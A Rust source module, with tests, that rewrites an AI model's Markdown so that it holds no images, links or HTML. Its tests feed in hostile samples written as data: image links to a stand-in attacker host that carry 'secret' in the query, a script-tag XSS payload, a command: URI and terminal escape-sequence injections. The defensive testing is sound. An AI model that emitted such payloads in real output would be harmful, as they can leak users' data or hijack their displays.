//! Markdown of the views' own, and of a model.
//!
//! A model's Markdown is never passed on: parsers do not agree about it, and what one takes for text is an image to
//! another. It is read into a tree that can hold no image, no link and no HTML, and written anew in one form that all
//! read alike.

mod addresses;
mod html;
mod indented;
mod math;
mod mathml;
mod read;
mod spans;
mod styled;
mod text;
mod tree;
mod wrap;
mod write;

use tree::{Span, Within};

use super::html::Html;
use super::style::Style;
use crate::Cleaner;

/// Limit in bytes. A longer text is shown as plain text: nobody reads it as Markdown, and drawing it takes long.
const LONGEST_MARKDOWN: usize = 500_000;

/// A model's Markdown, without images, links and HTML.
#[must_use]
pub fn answer(text: &str) -> String {
    let text = Cleaner::clean(text);
    if text.len() > LONGEST_MARKDOWN {
        return fence("text", &text);
    }
    write::write(&read::read(&text))
}

/// The same for a terminal, wrapped and in colours.
pub(super) fn styled(text: &str, style: Style) -> String {
    let text = Cleaner::clean(text);
    if text.len() > LONGEST_MARKDOWN {
        return text + "\n";
    }
    styled::write(&read::read(&text), style)
}

/// The same as HTML, with its formulas as MathML.
pub(super) fn push_answer(into: &mut Html, text: &str) {
    let text = Cleaner::clean(text);
    if text.len() > LONGEST_MARKDOWN {
        into.element("pre", &[("tabindex", "0")], |html| html.text(&text));
    } else {
        html::write(into, &read::read(&text));
    }
}

/// A text on one line, with nothing in it that is Markdown.
pub(super) fn escape(text: &str) -> String {
    plain(text, Within::Line)
}

/// The same for a cell of a table.
pub(super) fn escape_cell(text: &str) -> String {
    plain(text, Within::Cell)
}

fn plain(text: &str, within: Within) -> String {
    write::line(&spans::settled(vec![Span::Text(Cleaner::clean(text))], within), within)
}

/// Text as a fenced block that nothing inside can close.
#[must_use]
pub fn fence(language: &str, text: &str) -> String {
    let fence = "`".repeat((longest_run(text) + 1).max(3));
    let end = if text.ends_with('\n') { "" } else { "\n" };
    // The language may come from a model, so only its first word is used.
    let language: String = language.chars().take_while(char::is_ascii_alphanumeric).collect();
    format!("{fence}{language}\n{text}{end}{fence}\n")
}

/// Code on one line.
pub(super) fn inline(code: &str) -> String {
    write::line(&spans::settled(vec![Span::Code(Cleaner::clean(code))], Within::Line), Within::Line)
}

/// The length of the longest run of backticks.
fn longest_run(text: &str) -> usize {
    text.split(|character| character != '`').map(str::len).max().unwrap_or(0)
}

/// Escapes a link target for use in angle brackets.
pub(super) fn target(link: &str) -> String {
    link.replace('%', "%25").replace('<', "%3C").replace('>', "%3E").replace('\\', "%5C").replace('\n', "%0A")
}

/// A block quote with a bold first line.
pub(super) fn quoted(heading: &str, text: &str) -> String {
    let lines = text.trim().lines().map(|line| format!("> {}\n", escape(line)));
    format!("> **{}**\n>\n{}", escape(heading), lines.collect::<String>())
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;
    use proptest::prelude::*;

    use super::read::read;
    use super::write::write;
    use super::{Cleaner, Style, answer, fence, styled};

    #[test]
    fn nothing_in_an_answer_points_outside_the_document() {
        let hostile = "\
Total **13**, see [the docs](https://example.com/a_b \"title\") and ![chart](https://evil.example/p.png?q=secret).
[run me](command:workbench.action.quit) <https://example.com> <img src=https://evil.example/x>
[ref][1] ![img][1] [![nested](https://a.example)](https://b.example)

<script>alert(1)</script>

[1]: https://evil.example/ref

`[not](a link)` stays code.
";
        assert_snapshot!(answer(hostile), @r#"
        Total **13**, see the docs (`https://example.com/a_b "title"`) and chart (image not loaded: `https://evil.example/p.png?q=secret`).
        run me (`command:workbench.action.quit`) `https://example.com` &lt;img `src=https://evil.example/x`>
        ref (`https://evil.example/ref`) img (image not loaded: `https://evil.example/ref`) nested (image not loaded: `https://a.example`) (`https://b.example`)

        ```html
        <script>alert(1)</script>
        ```

        `[not](a link)` stays code.
        "#);
    }

    #[test]
    fn what_one_parser_takes_for_text_and_another_for_an_image_is_written_so_that_both_see_text() {
        let texts = [
            "0) \n       ![c](https://evil.example/i.png?q=SECRET)",
            "- `\n```![c](https://evil.example/j.png)`",
            "``[https://example.com](https://evil.example)\n``\n-|",
            "   - [ ]\n    ![c](https://evil.example/k.png)",
            "```||\n-|-\n<details open><summary>Isolation: full</summary>",
            "www.e\\<img src=https://evil.example/w.png>",
            // A definition may have code in its label; marked looks for links before it looks for such code.
            "\\[`^1]: https://evil.example`",
            "\\[`` `x](https://evil.example) ``",
            "|a|\n|-|\n|`\\\\|<img src=x>`|",
            "&#60;img src=x&#62; &#91;x](y) a&#10;&#10;# b &#x202e;",
        ];
        assert_snapshot!(texts.map(answer).join("\n"), @r"
        0. ```text
           ![c](https://evil.example/i.png?q=SECRET)
           ```

        - &#96;&#96;&#96;`![c](https://evil.example/j.png)`

        `[https://example.com](https://evil.example)`
        \-|

        - \[ ]

        ```text
        ![c](https://evil.example/k.png)
        ```

        ```text
        -|-
        <details open><summary>Isolation: full</summary>
        ```

        `www.e<img` `src=https://evil.example/w.png`>

        \[`^1]: https://evil.example`

        \[&#96;`x](https://evil.example)`

        | a                  |
        | ------------------ |
        | `\`\|`<img src=x>` |

        &lt;img src=x> \[x\](y) a  # b
        ");
    }

    #[test]
    fn an_ordinary_answer_looks_as_the_model_wrote_it() {
        let text = "\
# 1. The mean of `prices.csv`

It is **12.5 %** (2 * 3 < 7 & _more_), for snake_case, [1, 2] and f(x)[0]; `df[\"a\"]`. **重要**な点
- one,
- two:
  1. inner

> **Note:** read it.

| Region | Mean |
|:-------|-----:|
| North | 1.5 |
| South | `a\\|b` |

- [x] loaded
- [ ] drawn

Line<br>break and ~~old~~ text[^1].

[^1]: A note.
";
        assert_snapshot!(answer(text), @r#"
        # 1. The mean of `prices.csv`

        It is **12.5 %** (2 * 3 < 7 & _more_), for snake_case, [1, 2] and f(x)[0]; `df["a"]`. **重要**な点

        - one,
        - two:
          1. inner

        > **Note:** read it.

        | Region |   Mean |
        | :----- | -----: |
        | North  |    1.5 |
        | South  | `a\|b` |

        - [x] loaded
        - [ ] drawn

        Line  
        break and ~~old~~ text[1].

        [1] A note.
        "#);
    }

    #[test]
    fn addresses_and_paths_are_code_because_renderers_make_links_of_them() {
        let text = "See (https://x.example/a_(b)), www.x.example, a@x.example. 请看https://x.example/a。 C:\\\\Users\\\\me, //x, @cached, 5 @ 3";
        assert_snapshot!(answer(text), @r"See (`https://x.example/a_(b)`), `www.x.example`, `a@x.example`. 请看`https://x.example/a`。 `C:\Users\me`, `//x`, @cached, 5 @ 3");
    }

    #[test]
    fn references_are_resolved_and_definitions_without_a_link_are_shown() {
        let text = "[a][1], [b], ![c][1], [https://x.example](https://x.example), <https://y.example>\n\n[1]: https://x.example 'Title'\n[2]: https://z.example\n";
        assert_snapshot!(answer(text), @r#"
        a (`https://x.example "Title"`), [b], c (image not loaded: `https://x.example "Title"`), `https://x.example`, `https://y.example`

        \[2\]: `https://z.example`
        "#);
    }

    #[test]
    fn math_stays_math_and_can_only_draw() {
        let text = "\
$x<y$ and the $n$th, $5 to $10, $5-$10. **$\\alpha$**: $\\frac{a}{b}$
$$
a &= b \\\\
  &> c
$$
$\\href{https://evil.example}{x}$ $\\def\\a{b}$ $a`b$ $\\rule{9em}{9em}$ $[a](b)$ $\\text{//x}$

|a|
|-|
|$\\|x\\|$|

> $q$
";
        assert_snapshot!(answer(text), @r"
        $x\lt y$ and the `$n$`th, \$5 to \$10, \$5-\$10. **$\alpha$**: $\frac{a}{b}$

        $$a &= b \\ &\gt c$$

        `$\href{https://evil.example}{x}$` `$\def\a{b}$` `$a`&#96;`b$` `$\rule{9em}{9em}$` $[a] (b)$ `$\text{//x}$`

        | a              |
        | -------------- |
        | $\vert x\vert$ |

        > `$q$`
        ");
    }

    #[test]
    fn code_in_a_list_or_quote_stays_there_and_its_language_is_one_that_nobody_draws() {
        let text = "1. a\n   ```mermaid\n   graph\n   ```\n2. b\n\n> ```py title\n> ````\n> ```\n\n<div>\n*a*\n</div>\n";
        assert_snapshot!(answer(text), @"
        1. a

           ```text
           graph
           ```

        2. b

        > ```py
        >
        > ```
        >
        > ```text
        >
        > ```

        ```html
        <div>
        *a*
        </div>
        ```
        ");
    }

    #[test]
    fn containers_lie_in_each_other_only_so_deep() {
        let text = answer(&"> ".repeat(10_000));
        assert_eq!(text, "");
        let text = answer(&(">".repeat(10_000) + "a"));
        assert_eq!(text, "> ".repeat(16) + "a\n");
        let text = answer(&(0..200).map(|depth| "  ".repeat(depth) + "- a\n").collect::<String>());
        assert_eq!(text.lines().map(str::len).max(), Some(17));
    }

    #[test]
    fn an_open_fence_cannot_swallow_the_text_after_it() {
        assert_eq!(answer("~~~~py\nx = 1"), "```py\nx = 1\n```\n");
        assert_eq!(answer("```py\nx\n```"), "```py\nx\n```\n");
    }

    #[test]
    fn a_fence_is_longer_than_any_run_of_backticks_inside() {
        assert_eq!(fence("text", "a ```` b"), "`````text\na ```` b\n`````\n");
        assert_eq!(fence("", "x\n"), "```\nx\n```\n");
        assert_eq!(fence("py\n```", "x"), "```py\nx\n```\n");
    }

    const FORTY: Style = Style { is_coloured: false, columns: Some(40) };
    const COLOURED: Style = Style { is_coloured: true, ..FORTY };

    /// A text with colours, drawn with brackets around them.
    fn in_brackets(text: &str) -> String {
        styled(text, COLOURED).replace("\u{1b}[0m", "⟩").replace("\u{1b}[", "⟨")
    }

    const ANSWER: &str = "\
# The mean of `prices.csv`
It is **12.5 %**, _more_ than the ~~old~~ value; see [the docs](https://example.com/a/long/path/to/a/page).

- one entry that is so long that it does not fit on a line
  1. inner
- [x] loaded

> **Note:** read it.

```python
print(1)  # one
```

| Region | Mean of all the prices | Why |
|:-------|-----:|---|
| North | 1.5 | it is **cold** there in the long winter |

***
$$x$$
";

    #[test]
    fn a_terminal_shows_markdown_wrapped_and_with_colours() {
        assert_snapshot!(in_brackets(ANSWER), @"
        ⟨1mThe⟩ ⟨1mmean⟩ ⟨1mof⟩ ⟨1;36mprices.csv⟩

        It is ⟨1m12.5⟩ ⟨1m%⟩, ⟨3mmore⟩ than the ⟨9mold⟩ value;
        see the docs
        (⟨36mhttps://example.com/a/long/path/to/a/page⟩).

        • one entry that is so long that it does
          not fit on a line
          1. inner
        ☒ loaded

        │ ⟨1mNote:⟩ read it.

        ⟨2m```python⟩
        print(⟨33m1⟩)  ⟨2m# one⟩
        ⟨2m```⟩

        ⟨1mRegion⟩⟨2m │ ⟩   ⟨1mMean⟩ ⟨1mof⟩ ⟨1mall⟩⟨2m │ ⟩⟨1mWhy⟩
              ⟨2m │ ⟩    ⟨1mthe⟩ ⟨1mprices⟩⟨2m │ ⟩
        ⟨2m───────┼────────────────┼───────────────⟩
        North ⟨2m │ ⟩           1.5⟨2m │ ⟩it is ⟨1mcold⟩
              ⟨2m │ ⟩              ⟨2m │ ⟩there in the
              ⟨2m │ ⟩              ⟨2m │ ⟩long winter

        ⟨2m────────────────────────────────────────⟩

        $$x$$
        ");
    }

    #[test]
    fn without_colours_the_marks_stay() {
        assert_snapshot!(styled(ANSWER, FORTY), @"
        # The mean of `prices.csv`

        It is **12.5 %**, _more_ than the
        ~~old~~ value; see the docs
        (`https://example.com/a/long/path/to/a/page`).

        • one entry that is so long that it does
          not fit on a line
          1. inner
        ☒ loaded

        │ **Note:** read it.

        ```python
        print(1)  # one
        ```

        Region │    Mean of all │ Why
               │     the prices │
        ───────┼────────────────┼───────────────
        North  │            1.5 │ it is **cold**
               │                │ there in the
               │                │ long winter

        ────────────────────────────────────────

        $$x$$
        ");
    }

    #[test]
    fn an_entity_sends_no_escape_sequence_to_a_terminal() {
        let hostile =
            "&#27;[31mred &#x9b;31m `&#27;]0;x` **&#27;c** $\u{1b}[2J$\n\n```&#27;\n&#27;[0m\n```\n";
        assert_snapshot!(in_brackets(hostile), @"
        [31mred 31m ⟨36m&#27;]0;x⟩ ⟨1mc⟩ $$

        ⟨2m```text⟩
        &#27;[0m
        ⟨2m```⟩
        ");
    }

    /// Texts from the pieces that parsers disagree about.
    fn pieces() -> impl Strategy<Value = String> {
        let piece = prop_oneof![
            r"[!\[\]()<>`~\\#\n a:/*_|$=+&{}1.-]",
            r"(\n\n|\n    |\n- |\n  - |\n1\. |\n2\) |\n> |\n# |\n```\n|\n~~~|\n\||\|\n\|-\|-\|\n\||\n===\n|\n---\n|\t| \t|  \n)",
            r#"(https://x\.y|www\.x\.y|a@b\.c|//x|\[1\]: |!\[|\]\(|<img src=x>|<div>|<!--|<br>|\[x\]\(y "t"\)|\[\^1\]|\[\^1\]: )"#,
            r"(\*\*|__|~~|``|```|\$\$|\$x\^2\$|\\\\|\\\(|&lt;|&#96;|&#10;|&nbsp;|\[ \] |\[x\] |é|東|€|word|\\href|\\begin\{a\})",
        ];
        prop::collection::vec(piece, 0..30).prop_map(|pieces| pieces.concat())
    }

    proptest! {
        #[test]
        fn a_terminal_gets_no_escape_sequence_but_colours(text in pieces()) {
            let shown = styled(&(text + "&#27;[1m &#7;"), COLOURED);
            let mut parts = shown.split('\u{1b}');
            let plain = parts.next().unwrap_or_default().to_owned();
            let is_colour = |word: &str| word.bytes().all(|byte| byte == b';' || byte.is_ascii_digit());
            let texts = parts.map(|part| {
                let colour = part.strip_prefix('[').and_then(|part| part.split_once('m'));
                colour.filter(|(colour, _)| is_colour(colour)).map_or("\u{1b}", |(_, text)| text)
            });
            let plain: String = texts.fold(plain, |plain, text| plain + text);
            prop_assert!(!plain.chars().any(|it| it.is_control() && it != '\n' && it != '\t'), "{:?}", shown);
        }

        #[test]
        fn what_is_written_is_read_as_the_same_tree(text in pieces()) {
            let tree = read(&Cleaner::clean(&text));
            let written = write(&tree);
            prop_assert_eq!(read(&written), tree, "{:?} was written as\n{}", text, written);
        }
    }
}
